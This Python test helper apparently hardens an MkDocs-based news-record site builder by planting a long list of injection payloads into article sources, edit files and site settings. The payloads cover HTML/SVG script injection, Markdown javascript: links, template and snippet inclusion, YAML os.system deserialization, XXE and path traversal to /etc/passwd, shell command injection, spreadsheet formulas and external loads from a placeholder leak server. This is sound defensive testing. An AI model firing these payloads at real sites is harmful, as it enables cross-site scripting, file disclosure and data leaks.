"""Attacks, and a project in which each of them stands wherever a text or an edits file can put one."""

# ruff: noqa: E501
from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

from conftest import ROOT
from onrecord import build, frontmatter, record, yamlfile
from onrecord.model import Record
from onrecord.project import Project

ATTACKS = [
    # HTML
    "<script>pwned()</script>",
    "</script><script src='{leak}/1.js'></script>",
    "<img src={leak}/2.png onerror=pwned()>",
    '"><svg/onload=pwned()><"',
    "' onmouseover='pwned()' autofocus onfocus='pwned()",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<style>@import '{leak}/3.css'; body {{ background: url({leak}/4.png) }}</style>",
    "<!-- --><script>pwned()</script><!-- -->",
    "--><script>pwned()</script><!--",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;b&#62;",
    "</title></textarea></noscript></template><img src=x onerror=pwned()>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=pwned()>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    "<form action={leak}/5 id=f><input name=x autofocus onfocus=pwned()></form><button form=f formaction=javascript:pwned()>",
    "<meta http-equiv=refresh content='0;url={leak}/6'><base href={leak}/>",
    "<link rel=stylesheet href={leak}/7.css><link rel=preconnect href={leak}>",
    "<object data={leak}/8></object><embed src={leak}/9><video poster={leak}/10 src={leak}/11 autoplay>",
    "<a href=javascript:pwned() accesskey=x>x</a><area href=javascript:pwned()>",
    "<img/src=`{leak}/12`/onerror=pwned()//",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<SCRIPT\u2028>pwned()</SCRIPT\u2029>",
    "＜script＞pwned()＜/script＞ \u00abscript\u00bb",
    # links of Markdown and their schemes, with odd blanks and entities
    "[press](javascript:pwned())",
    "[press](java\tscript:pwned()) [press](  javascript&colon;pwned()) [press](javascript&#58;pwned())",
    "[press](vbscript:pwned) [press](data:text/html,<script>pwned()</script>) [press](\u0001javascript:pwned())",
    "![image]({leak}/13.png) ![image][a] [![x]({leak}/14.png)](javascript:pwned())",
    "[a]: javascript:pwned() 'x'",
    "<javascript:pwned()> <https://courier.example/><script>pwned()</script>",
    "javascript:pwned()//https://courier.example/",
    "https://courier.example@{leak}/15 //courier.example/16 \\\\courier.example\\17",
    # Markdown, Python-Markdown's extensions, Material's and MkDocs' syntaxes
    "*_**__~~==^^`|`||\\\\ # - + 1. > ::: /// !!! ??? [^1]: [TOC] [[x]] :smile: $$x$$",
    "{{{{ pwned() }}}} {{% include '/etc/passwd' %}} ${{pwned()}} #{{7*7}}",
    "{{{{ config.__class__.__init__.__globals__ }}}} {{# x #}} {{% raw %}} [[= pwned() =]] <%= pwned() %>",
    "{{: onclick=pwned() .x #y }}",
    "{{: href=javascript:pwned() style=background:url({leak}/18) }} {{.x onclick=pwned()}}",
    '--8<-- "mkdocs.yml"',
    '-8<- "mkdocs.yml"\n\n--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- "mkdocs.yml"',
    '\\--8<-- "../mkdocs.yml" --8<-- "{leak}/19.md" {{!mkdocs.yml!}} {{!../mkdocs.yml!}} <<[mkdocs.yml]',
    '!!! danger "<img src=x onerror=pwned()>"\n    x\n\n??? note "y"\n    {{: onclick=pwned() }}',
    "/// html | script\npwned()\n///\n\n/// details | <img src onerror=pwned()>\n///",
    "```html\n<script>pwned()</script>\n```",
    '``` {{.html onclick=pwned() title="<b onclick=pwned()>"}}\nx\n```\n\n~~~mermaid\ngraph LR\nclick A pwned\n~~~',
    "| a | <b onclick=pwned()> |\n|---|---|\n| =1+1 | `x|y` |",
    "[^1]: <script>pwned()</script>\n\n*[ferry]: <script>pwned()</script>\n\n[TOC]\n\n<div markdown>*x*</div>",
    "++ctrl+alt++ ^^x^^ ~~y~~ {{--x--}} {{>>y<<}} {{++z++}} :material-home:{{ onclick=pwned() }} :fontawesome-x:",
    "---\ntitle: pwned\ntemplate: ../../etc/passwd\nhide: [navigation]\n---",
    # YAML, JSON, XML, SVG
    "!!python/object/apply:os.system ['touch pwned'] &a *a <<: *b",
    "]]><script>pwned()</script><![CDATA[",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x><?xml-stylesheet href="{leak}/20"?>',
    '"}}],"x":"</script><script>pwned()</script>","y":[{{"z":"\\u003cscript\\u003epwned()',
    '\\"\\u0022); pwned(); // \\x3cscript\\x3e \\',
    "</text></svg><script>pwned()</script><svg><foreignObject><body onload=pwned()>",
    "<use href={leak}/21.svg#x /><image href={leak}/22 /><animate attributeName=href to=javascript:pwned() />",
    # spreadsheets, citations
    '=HYPERLINK("{leak}/23","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1|-2+3 \t=1+1 ;=1+1 ,=1+1 '=1+1 \"=1+1",
    "}}, title = {{pwned}}, url = {{javascript:pwned()}} }} @misc{{y, \\input{{/etc/passwd}} \\write18{{touch pwned}} % $x^2$",
    "x\nER  - \nTY  - JOUR\nUR  - javascript:pwned()\nL1  - file:///etc/passwd",
    "#:~:text=a,-b&text=c %23%3A~%3Atext= ?a=b&c#d",
    # paths and shells
    "../../../../etc/passwd %2e%2e%2f ..\\..\\x /etc/passwd C:\\x file:///etc/passwd",
    "; touch pwned; $(touch pwned) `touch pwned` | touch pwned && touch pwned > pwned",
    # characters
    "\u202ednopwned\u202c \u2066x\u2069 \u200f\u061c",
    "A\u0301\u0302" * 40 + "\U0001f3f4\u200d\u2620\ufe0f\U0010fffd",
    "\u200b\u200c\u200d\ufeff\u00ad\u034f\u180e\u2060 \ufff9x\ufffa\ufffb \u3164 \U000e0041\U000e007f",
    "А\u043dna Lind \u0410nna Lind Ann\u0430 Lind \U0001d400nna 𝗟ind",
    "x" * 300,
    "9" * 200 + " e999 1e309 -0 0x7f NaN Infinity null true",
    "on 31 February 0000, in 99999, on 00/00/0000, 12:99 p.m., 10000000000000000000 years ago, in the 999990s",
]
"""`{leak}` is the address of a server that must never be asked; braces are doubled, for str.format."""


CLOSED = """---
title: The board sells the ferry
publisher: The Northport Gazette
published: 2031-03-20
rights: all rights reserved
---
The Harbour Board sold its only ferry to a yard in Eastmouth on Tuesday for a sum that nobody who was there would name.
"""


def hostile_source(attack: str, number: int, other: str) -> str:
    """An article in which two attacks stand wherever a text can put one."""
    flat, other = " ".join(attack.split()), " ".join(other.split())
    head = {
        "title": f"{flat} and the ferry {other}",
        "publisher": f"Courier {flat}",
        "author": [f"Ida {flat}", other],
        "description": f"{flat} {other}",
        "licence": flat,
        "rights": "open",
        "published": "2031-03-12",
        "url": f"https://courier.example/{number}?q=%22%3E%3Cb%3E&x=%27",
        "language": "en",
        "digest_of": {
            "title": f"{other} {flat}",
            "publisher": flat,
            "url": "https://courier.example/?a=b&c='%3E".replace("'", "%27"),
        },
    }
    body = (
        f"The ferry {attack} stopped on Monday, the {flat} Board said.\n\n"
        f"“We had {attack} no choice,” said Anna {flat} Lind, the {flat} chair of the Harbour Board. “It is {other}.”\n\n"
        f"Tom Quay denied in March 2030 that he had {flat} been told. Mira Voss was charged with {flat} fraud.\n\n"
        f"Police allege that Tom Quay stole {other} in May 2029. On 3 May 2030 the board sold the ferry {flat} to Bo Marn.\n\n"
        f"{attack}\n\nHe said the board “never asked {flat} the crew” in {other}.\n\n"
        "After the sale, a crane fell on the quay of Northport.\n"
    )
    return frontmatter.write(head) + body


def corrections(committed: Record, attack: str, other: str) -> dict[str, object]:
    """Edits that put two attacks wherever an editor's words go."""
    flat, other = " ".join(attack.split()), " ".join(other.split())
    day = "2031-04-01"
    found: dict[str, object] = {"source": {"title": f"{flat} {other}", "on": day}}
    for quote in committed.quotes[:1]:
        found[quote.id] = {"speaker": flat, "place": other, "note": flat, "on": day}
    for fact in committed.facts[:1]:
        found[fact.id] = {"hide": f"{flat} {other}", "on": day}
    for fact in committed.facts[1:2]:
        found[fact.id] = {
            "title": f"Bo Marn took {flat} {other} away.",
            "speaker": other,
            "status": "alleged",
            "place": flat,
            "on": day,
        }
    for fact in committed.facts[2:3]:
        found[fact.id] = {"another": flat, "note": other}
    for entry in committed.timeline[1:2]:
        found[entry.id] = {"title": other, "place": other, "date": "2030~", "on": day}
    for subject in committed.subjects[:1]:
        found[subject.id] = {"name": flat, "aliases": [flat, other], "roles": [other, flat], "on": day}
    for subject in committed.subjects[1:2]:
        found[subject.id] = {"hide": other}
    crane = {"evidence": "a crane fell on the quay", "date": "2031-03-09", "note": flat}
    found["add"] = [
        {"fact": f"The crane fell {flat}.", "speaker": other, "status": "denied", **crane},
        {"entry": other, "place": flat, **crane},
    ]
    return found


def settings(leak: str) -> dict[str, object]:
    """Settings of mkdocs.yml, apart from those that are there: attacks wherever an owner's own words may stand."""
    lines = [" ".join(attack.format(leak=leak).replace("\u0001", "").split()) for attack in ATTACKS]
    return {
        "site_name": " ".join(lines[:24:2]),
        "site_description": " ".join(lines[1:24:2]),
        "site_author": " ".join(lines[28:40]),
        "copyright": "© {{ pwned() }} {% include 'mkdocs.yml' %} {: onclick=pwned() } \" onload=pwned() "
        '&lt;script&gt;pwned()&lt;/script&gt; <a href="https://courier.example/?a=b">The Courier</a> <em>2031</em>',
        "repo_url": f"{leak}/repo?a='onload=pwned()&b={{{{7*7}}}}".replace("{", "%7B").replace("}", "%7D"),
        "repo_name": lines[0],
        "extra": {
            "generator": False,
            "contact": "mailto:desk@courier.example?subject=%3Cscript%3E&body={{pwned()}}%22",
            "social": [
                {"icon": "material/email", "link": "mailto:a@b.example", "name": f'" {lines[4]}'.replace("<", "&lt;")}
            ],
            "other": "&lt;script&gt;pwned()",
        },
    }


def attacked(root: Path, leak: str) -> tuple[Project, list[str]]:
    """A project with two attacks a source, its records made and edits laid over them; and the attacks."""
    root.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", root)
    shutil.copytree(ROOT / "docs", root / "docs", ignore=shutil.ignore_patterns("record"))
    shutil.copytree(ROOT / "scripts", root / "scripts", ignore=shutil.ignore_patterns("__pycache__"))
    (root / "sources").mkdir()
    _attack_settings(root / "mkdocs.yml", leak)
    attacks = [attack.format(leak=leak) for attack in ATTACKS]
    pairs = list(zip(attacks[::2], attacks[1::2], strict=True))
    for number, (one, other) in enumerate(pairs):
        content = hostile_source(one.replace("\u0001", ""), number, other.replace("\u0001", ""))
        (root / "sources" / f"attack-{number}.md").write_text(content, "utf-8")
    (root / "sources" / "closed.md").write_text(CLOSED, "utf-8")  # then the audit reads every file that is made
    project = Project(root)
    build.prepare(project)
    for number, (one, other) in enumerate(pairs):
        committed = record.load(root / "sources" / f"attack-{number}.record.yml")
        edits = corrections(committed, other.replace("\u0001", ""), one.replace("\u0001", ""))
        if number == 3:
            edits = {"source": {"hide": " ".join(one.split())}}
        (root / "sources" / f"attack-{number}.edits.yml").write_text(yamlfile.write(edits), "utf-8")
    return project, attacks


def _attack_settings(path: Path, leak: str) -> None:
    """Put attacks in place of the settings of mkdocs.yml, and behind the titles of its navigation."""
    content = path.read_text("utf-8")
    changed = settings(leak)
    content = re.sub(rf"^({'|'.join(changed)}):.*\n(?:[ ].*\n)*", "", content, flags=re.M)
    titles = iter(" ".join(one.format(leak=leak).replace("\u0001", "").split()) for one in ATTACKS)
    content = re.sub(
        r"^( +- )([A-Z][^:\n]+):(.*)$",
        lambda row: f"{row[1]}{json.dumps(f'{row[2]} {next(titles)}', ensure_ascii=True)}:{row[3]}",
        content,
        flags=re.M,
    )
    path.write_text(content + "".join(f"{key}: {json.dumps(value)}\n" for key, value in changed.items()), "utf-8")
